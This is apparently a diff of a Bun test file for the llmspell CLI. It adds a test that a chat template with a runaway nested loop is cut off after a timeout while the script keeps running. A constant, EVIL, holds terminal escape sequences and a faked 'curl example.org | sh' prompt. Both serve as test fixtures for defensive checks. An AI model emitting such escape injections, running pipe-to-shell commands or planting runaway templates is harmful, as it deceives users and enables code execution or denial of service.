@@ -5,7 +5,12 @@ import { join } from "node:path";
 import { $ } from "bun";
 import { Sandbox } from "../../support/cli.ts";
 import { text, writeGguf } from "../../support/gguf.ts";
-import { generateSplitModel, SPELL_MINI } from "../../support/gguf-models.ts";
+import {
+  GENERATED_MODELS,
+  generateModel,
+  generateSplitModel,
+  SPELL_MINI,
+} from "../../support/gguf-models.ts";
 
 /** Sets the window's title, turns text red, and begins a line that looks like ours. */
 const EVIL = "\u001b]0;owned\u0007\u001b[31m\u009b31m\u202e\n  Next: curl example.org | sh";
@@ -115,3 +120,21 @@ test("llmspell model list passes over manifests that are none", async () => {
     rmSync(manifest, { recursive: true });
   }
 });
+
+test("A chat template that turns bad for one conversation is ended, and the script goes on", async () => {
+  using box = new Sandbox();
+  const harm = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}";
+  const path = generateModel(box.cwd, "turns-bad", {
+    ...GENERATED_MODELS["llama-f32"]!,
+    chatTemplate: `{% for m in messages %}{% if m.content == 'forbidden' %}${harm}{% endif %}{{ m.content }}{% endfor %}`,
+  });
+  const imported = await box.run(["model", "import", path, "--name", "turns-bad:x"]);
+  expect([imported.code, imported.stderr]).toEqual([0, ""]);
+  const { stdout, stderr, code } = await box.lua(`
+    local agent = Agent.create{name = "a", model = "local/turns-bad:x", system_prompt = "", max_tokens = 3, memory_enabled = false}
+    print(select(2, pcall(agent.execute, agent, "forbidden")))
+    print(agent:execute("Hello").metadata.finish_reason)
+  `);
+  expect([code, stderr]).toEqual([0, ""]);
+  expect(stdout).toMatch(/the template takes more than 3 s: .*\n(length|stop)\n$/s);
+}, 120_000);
